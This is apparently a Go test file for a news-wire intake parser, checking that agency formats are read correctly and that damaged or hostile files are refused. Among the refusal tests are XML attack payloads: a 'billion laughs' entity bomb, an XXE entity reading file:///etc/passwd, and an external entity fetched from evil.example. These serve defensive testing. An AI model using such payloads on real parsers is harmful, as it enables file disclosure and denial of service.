package intake

import (
	"errors"
	"fmt"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/txtar"
	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"

	"redakcija/editor"
)

// wireMarks are written as their pictures in the test files, where they can be seen.
var wireMarks = strings.NewReplacer("␁", "\x01", "␂", "\x02", "␃", "\x03", "␄", "\x04", "␎", "\x0E", "␔", "\x14", "␕", "\x15", "␖", "\x16", "␟", "\x1F")

// wires returns the test files of agencies and feeds: "in" is the file as received, and
// "want" every field of every story in it.
func wires(t testing.TB) map[string]*txtar.Archive {
	t.Helper()
	files, err := filepath.Glob("testdata/wires/*.txtar")
	if err != nil || len(files) < 22 {
		t.Fatalf("%d test files, %v", len(files), err)
	}
	all := make(map[string]*txtar.Archive)
	for _, f := range files {
		a, err := txtar.ParseFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if len(a.Files) != 2 || a.Files[0].Name != "in" || a.Files[1].Name != "want" {
			t.Fatalf("%s has other parts than in and want", f)
		}
		a.Files[0].Data = []byte(wireMarks.Replace(string(a.Files[0].Data)))
		all[strings.TrimSuffix(filepath.Base(f), ".txtar")] = a
	}
	return all
}

// readAll reads what arrives as a desk does, and writes every field of every story in it.
func readAll(raw []byte) string {
	var b strings.Builder
	desk := editor.NewDesk(nil, Formats, editor.Edition{}, editor.Inflow{})
	for r, err := range desk.Read(editor.Incoming{Name: "in", Raw: raw}) {
		var bad *editor.InputError
		if errors.As(err, &bad) {
			fmt.Fprintf(&b, "== %s: %s at %d\n", r.Name, bad.Reason, bad.At)
			continue
		}
		fmt.Fprintf(&b, "== %s, %s\n", r.Name, r.Draft.Format)
		for _, f := range [...][2]string{{"id", r.Draft.Item.ID}, {"version", r.Draft.Item.Version}, {"address", r.Draft.Item.Address}} {
			if f[1] != "" {
				fmt.Fprintf(&b, "%s: %s\n", f[0], f[1])
			}
		}
		b.WriteString(dump(r.Draft))
		for _, m := range r.Draft.Media {
			fmt.Fprintf(&b, "%s [%s] %s%s: %s (%s)\n", m.Kind, m.Type, m.Name, m.Address, m.Caption, m.Credit)
		}
		b.WriteString("header:")
		for _, field := range slices.Sorted(maps.Keys(r.Draft.Found)) {
			if r.Draft.Found[field] == foundHeader {
				b.WriteString(" " + field)
			}
		}
		b.WriteString("\n")
	}
	return b.String()
}

// TestWires reads the files of agencies and feeds, with line feeds and with the line ends
// of their wires.
func TestWires(t *testing.T) {
	for name, a := range wires(t) {
		in, want := a.Files[0].Data, string(a.Files[1].Data)
		if got := readAll(in); got != want {
			t.Errorf("%s\ngot:\n%s\nwant:\n%s", name, got, want)
		}
		crlf := []byte(strings.ReplaceAll(string(in), "\n", "\r\n"))
		if got := readAll(crlf); got != want && !strings.Contains(name, "json") {
			t.Errorf("%s with CRLF\ngot:\n%s\nwant:\n%s", name, got, want)
		}
	}
}

// TestBadWires reads files that are damaged or made to do harm: each is refused with the
// reason and, where it can be told, the byte.
func TestBadWires(t *testing.T) {
	rep := strings.Repeat
	const nitf, g2, rss = "<nitf><body><body.content>", `<newsItem guid="a"><contentSet><inlineXML>`, "<rss><channel>"
	bombs := `<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">`
	for _, c := range []struct {
		name, raw, reason string
		at                int
	}{
		{"billion laughs", "<!DOCTYPE nitf [" + bombs + "]>" + nitf + "<p>&c;</p>", editor.InputEntities, 0},
		{"entity of a file", `<!DOCTYPE NewsML [<!ENTITY x SYSTEM "file:///etc/passwd">]><NewsML><NewsItem>&x;</NewsItem></NewsML>`, editor.InputEntities, 0},
		{"entities in a message", `<!DOCTYPE newsItem [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>` + g2, editor.InputEntities, 0},
		{"entities in a feed", "<!DOCTYPE rss [" + bombs + "]><rss><channel><item><title>&c;</title></item></channel></rss>", editor.InputEntities, 0},
		{"entity that nobody declared", nitf + "<p>a &laughs; b</p></body.content></body></nitf>", editor.InputDamaged, 39},
		{"cut NITF", nitf + "<p>Half a stor", editor.InputDamaged, 39},
		{"cut message", g2 + "<p>Half", editor.InputDamaged, 48},
		{"tags that cross", "<NewsML><NewsItem></NewsML>", editor.InputDamaged, 26},
		{"deep NITF", nitf + rep("<b>", 300), editor.InputDeep, 617},
		{"deep item", rss + "<item>" + rep("<b>", 300) + "</item></channel></rss>", editor.InputDeep, 14},
		{"attribute of 30 MB", `<nitf a="` + rep("x", 30<<20) + `"/>`, editor.InputTooLarge, -1},
		{"attribute of 2 MB", `<nitf a="` + rep("x", 2<<20) + `"/>`, editor.InputTooLarge, 0},
		{"tag of 2 MB in a feed", `<rss a="` + rep("x", 2<<20) + `"/>`, editor.InputDamaged, 0},
		{"more tags than words", nitf + rep("<p>a</p>", maxTags) + "</body.content></body></nitf>", editor.InputTooLarge, -1},
		{"more escaped tags than words", nitf + rep("&lt;p>a", maxTags+1) + "</body.content></body></nitf>", editor.InputTooLarge, -1},
		{"too long an item of a feed", rss + "<item><title>a</title><description>" + rep("a ", maxMarkup) + "</description></item></channel></rss>", editor.InputTooLarge, 14},
		{"feed without items", rss + "<title>a</title></channel></rss>", editor.InputNoBody, -1},
		{"item without words", rss + "<item><title>Only a title stands here</title></item></channel></rss>", editor.InputNoBody, -1},
		{"cut feed", rss + "<item><title>a</title>", editor.InputDamaged, 14},
		{"message without a story", "<newsMessage><itemSet/></newsMessage>", editor.InputNoBody, -1},
		{"picture alone", `<newsItem><itemMeta><itemClass qcode="ninat:picture"/></itemMeta><contentMeta><headline>A cat</headline></contentMeta></newsItem>`, editor.InputPicture, -1},
		{"picture in ninjs", `{"uri":"a","type":"picture","headline":"A cat"}`, editor.InputPicture, -1},
		{"cut ninjs", `{"uri":"a","headline":"b","body_text":"Half a st`, editor.InputDamaged, 47},
		{"deep ninjs", `{"uri":"a","headline":"b","subject":` + rep("[", 20_000), editor.InputDeep, 10_035},
		{"long list in ninjs", `{"uri":"a","headline":"b","subject":[` + rep("{},", maxListed) + "{}]}", editor.InputTooLarge, -1},
		{"escaped tags in ninjs", `{"uri":"a","headline":"b","body_html":"` + rep(`\u003cp>a`, maxTags+1) + `"}`, editor.InputTooLarge, -1},
		{"ninjs of 5 MB", `{"uri":"a","headline":"b","body_text":"` + rep("a ", 5<<19) + `"}`, editor.InputTooLarge, -1},
		{"cut JSON Feed", `{"version":"https://jsonfeed.org/version/1","items":[{"id":`, editor.InputDamaged, 53},
		{"wire without words", "\x01eca0003 3 i 180  dpa 0045\r\n\x02\r\n\x03", editor.InputNoBody, -1},
		{"bytes for words", "\x01eca0003 3 i 180  dpa 0045\n\x02" + rep("\x02\x05", 10) + "\x00", editor.InputBinary, -1},
	} {
		got := ""
		desk := editor.NewDesk(nil, Formats, editor.Edition{}, editor.Inflow{})
		for r, err := range desk.Read(editor.Incoming{Name: "in", Raw: []byte(c.raw)}) {
			var bad *editor.InputError
			if !errors.As(err, &bad) {
				t.Errorf("%s: %v, %+v", c.name, err, r.Draft)
				continue
			}
			got += fmt.Sprintf("%s %d", bad.Reason, bad.At)
		}
		if want := fmt.Sprintf("%s %d", c.reason, c.at); got != want {
			t.Errorf("%s: %q, want %q", c.name, got, want)
		}
	}
}

// TestWireParts proves that a story within a file reads alone as it does there, that it is
// the same bytes whenever it comes again, and that one bad item costs no other.
func TestWireParts(t *testing.T) {
	desk := editor.NewDesk(nil, Formats, editor.Edition{}, editor.Inflow{})
	held := 0
	for name, a := range wires(t) {
		for r, err := range desk.Read(editor.Incoming{Name: "in", Raw: a.Files[0].Data}) {
			if err != nil {
				t.Errorf("%s: %v", name, err)
				continue
			}
			alone := readAll(r.Raw)
			_, alone, _ = strings.Cut(alone, "\n")
			if !strings.Contains(string(a.Files[1].Data), "\n"+alone) {
				t.Errorf("%s, %s: alone it reads\n%s", name, r.Name, alone)
			}
			if r.Name != "in" {
				held++
			}
		}
	}
	if held < 12 {
		t.Errorf("%d stories within files", held)
	}

	feed := string(wires(t)["feed-rss"].Files[0].Data)
	later := strings.NewReplacer("<lastBuildDate>Sat, 07", "<lastBuildDate>Sun, 08", "<pubDate>Sat, 07 Aug 2027 12", "<pubDate>Sun, 08 Aug 2027 12").Replace(feed)
	third := "<item><title>Third</title><description>A third item of the feed.</description></item>"
	damaged := strings.Replace(feed, "<item>", "<item><title>Deep</title>"+strings.Repeat("<b>", 300)+"</item>"+third+"<item>", 1)
	damaged = damaged[:strings.LastIndex(damaged, "</item>")]
	parts := func(raw string) (all []string) {
		for part, err := range feedParts([]byte(raw)) {
			if err != nil {
				all = append(all, err.Error())
				continue
			}
			all = append(all, string(part.Raw))
		}
		return all
	}
	if later == feed || !slices.Equal(parts(feed), parts(later)) {
		t.Error("items change with the hour at which the feed was made")
	}
	got := readAll([]byte(damaged))
	for _, s := range []string{"in/Deep: too_deep at ", "paragraph: A third item of the feed.", "headline: Kotorska", "in/Most na Bojani zatvoren do ponedjeljka: damaged at "} {
		if !strings.Contains(got, s) {
			t.Errorf("bad items among good: %q is missing in\n%s", s, got)
		}
	}
}

// TestWireEncodings reads files in the encodings that agencies send them in.
func TestWireEncodings(t *testing.T) {
	for name, charset := range map[string]encoding.Encoding{
		"newsml1-afp": charmap.ISO8859_1, "nitf-pa": charmap.ISO8859_1, "7901-ats": charmap.Windows1252,
		"g2-dpa": unicode.UTF16(unicode.LittleEndian, unicode.UseBOM), "feed-atom": unicode.UTF16(unicode.BigEndian, unicode.UseBOM),
	} {
		a := wires(t)[name]
		raw, err := charset.NewEncoder().Bytes(a.Files[0].Data)
		if err != nil {
			t.Fatal(err)
		}
		if got, want := readAll(raw), string(a.Files[1].Data); got != want {
			t.Errorf("%s in %v\ngot:\n%s\nwant:\n%s", name, charset, got, want)
		}
	}
}

// TestLongHead proves that what stands above a text without an end is not all headline.
func TestLongHead(t *testing.T) {
	d, err := readSeven([]byte("eca0003 3 i 380  dpa 0045\n\n" + strings.Repeat("One more line of it\n", 50_000)))
	if err != nil {
		t.Fatal(err)
	}
	if n := len(d.Blocks[0].Text); d.Blocks[0].Kind != editor.Headline || n > maxHead*20 || len(d.Blocks) < 2 {
		t.Errorf("%d blocks, the first a %s of %d bytes", len(d.Blocks), d.Blocks[0].Kind, n)
	}
}
